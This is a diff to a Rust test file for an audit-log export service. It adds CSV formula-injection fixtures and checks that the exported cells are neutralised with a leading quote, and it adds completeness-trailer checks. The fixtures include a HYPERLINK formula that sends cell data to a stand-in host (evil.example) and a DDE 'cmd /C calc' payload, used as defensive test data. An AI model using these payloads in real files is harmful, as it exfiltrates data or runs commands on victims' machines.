@@ -450,10 +450,14 @@ fn bulk_event(i: usize) -> Event {
             vec!["id".to_owned(), "amount".to_owned()]
         },
         n_records: i as u32,
-        reason: match i % 4 {
+        reason: match i % 8 {
             0 => None,
             1 => Some(format!("policy \"balance-alerts\", rule {i}")),
             2 => Some("two\r\nlines, and a comma".to_owned()),
+            // What a spreadsheet would evaluate, and a leading quote.
+            3 => Some("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".to_owned()),
+            4 => Some(["+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)"][i % 3].to_owned()),
+            5 => Some(["\tx", "\rx", "'quoted"][i % 3].to_owned()),
             _ => Some("plain".to_owned()),
         },
         request_id: Some(format!("req-{i}")),
@@ -504,12 +508,25 @@ fn parse_csv(text: &str) -> Vec<Vec<String>> {
     rows
 }
 
+/// A CSV cell's value: the export puts a `'` before a value that starts with a character a
+/// spreadsheet would evaluate (or with `'`); no cell starts with one of those bare.
+fn csv_value(cell: &str) -> &str {
+    const ESCAPED: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];
+    match cell.strip_prefix('\'') {
+        Some(value) if value.starts_with(ESCAPED) => value,
+        _ => {
+            assert!(!cell.starts_with(ESCAPED), "{cell:?} is not neutralised");
+            cell
+        }
+    }
+}
+
 /// A CSV row of the export back as a record.
 fn csv_record(header: &[String], row: &[String]) -> Record {
     assert_eq!(row.len(), header.len(), "{row:?}");
     let column = |name: &str| -> &str {
         let index = header.iter().position(|column| column == name).unwrap();
-        &row[index]
+        csv_value(&row[index])
     };
     let optional = |name: &str| Some(column(name).to_owned()).filter(|value| !value.is_empty());
     let list = |name: &str| -> Vec<String> {
@@ -542,6 +559,21 @@ fn csv_record(header: &[String], row: &[String]) -> Record {
             request_id: optional("request_id"),
         },
     }
+}
+
+/// The event lines of a JSON Lines export, after checking that it ends with the trailer that
+/// says it is complete and counts them.
+fn jsonl_events(answer: &Answer) -> Vec<&str> {
+    let text = std::str::from_utf8(&answer.body).unwrap();
+    assert!(text.ends_with('\n'));
+    let mut lines: Vec<&str> = text.lines().collect();
+    let trailer: Value = serde_json::from_str(lines.pop().expect("a trailer")).unwrap();
+    assert_eq!(
+        trailer,
+        json!({"complete": true, "n_events": lines.len()}),
+        "the last line"
+    );
+    lines
 }
 
 async fn export_streams_every_event_as_jsonl_and_csv(kind: StoreKind) {
@@ -579,9 +611,7 @@ async fn export_streams_every_event_as_jsonl_and_csv(kind: StoreKind) {
         answer.headers.get("content-length").is_none(),
         "streamed, not buffered"
     );
-    let text = std::str::from_utf8(&answer.body).unwrap();
-    assert!(text.ends_with('\n'));
-    let lines: Vec<&str> = text.lines().collect();
+    let lines = jsonl_events(&answer);
     assert_eq!(lines.len(), BULK);
     for (line, record) in lines.iter().zip(&bulk) {
         assert_eq!(*line, serde_json::to_string(record).unwrap());
@@ -615,18 +645,29 @@ async fn export_streams_every_event_as_jsonl_and_csv(kind: StoreKind) {
         "position,id,time,actor,action,platform,bank,consent,user_ref,purpose,policy_hash,\
          categories,fields,n_records,decision,reason,request_id,prev_hash,hash"
     );
-    assert_eq!(rows.len(), BULK + 1);
-    for (row, record) in rows[1..].iter().zip(&bulk) {
+    // ...then the trailer that says the export is complete, as wide as the header.
+    assert_eq!(rows.len(), BULK + 2);
+    let trailer = &rows[BULK + 1];
+    assert_eq!(trailer[..2], ["#complete".to_owned(), BULK.to_string()]);
+    assert_eq!(trailer.len(), rows[0].len());
+    assert!(trailer[2..].iter().all(String::is_empty), "{trailer:?}");
+    for (row, record) in rows[1..=BULK].iter().zip(&bulk) {
         assert_eq!(&csv_record(&rows[0], row), record);
     }
+    // The formula reached the file as text.
+    let text = std::str::from_utf8(&answer.body).unwrap();
+    assert!(
+        text.contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\","),
+        "{}",
+        &text[..2000]
+    );
 
     // Filters and keyset start apply as in /v1/audit/events.
     let after = bulk[BULK - 10].position;
     let path = format!("/v1/audit/export?platform=bulk-app&decision=deny&after={after}");
     let answer = get(&gateway, &token, &path).await;
-    let positions: Vec<i64> = std::str::from_utf8(&answer.body)
-        .unwrap()
-        .lines()
+    let positions: Vec<i64> = jsonl_events(&answer)
+        .iter()
         .map(|line| {
             serde_json::from_str::<Value>(line).unwrap()["position"]
                 .as_i64()
@@ -643,9 +684,8 @@ async fn export_streams_every_event_as_jsonl_and_csv(kind: StoreKind) {
     // Unfiltered: the whole log up to the export's own audit record, which comes next.
     let answer = get(&gateway, &token, "/v1/audit/export").await;
     assert_eq!(answer.headers["content-type"], "application/x-ndjson");
-    let exported: Vec<Record> = std::str::from_utf8(&answer.body)
-        .unwrap()
-        .lines()
+    let exported: Vec<Record> = jsonl_events(&answer)
+        .iter()
         .map(|line| serde_json::from_str(line).unwrap())
         .collect();
     let positions: Vec<i64> = exported.iter().map(|record| record.position).collect();
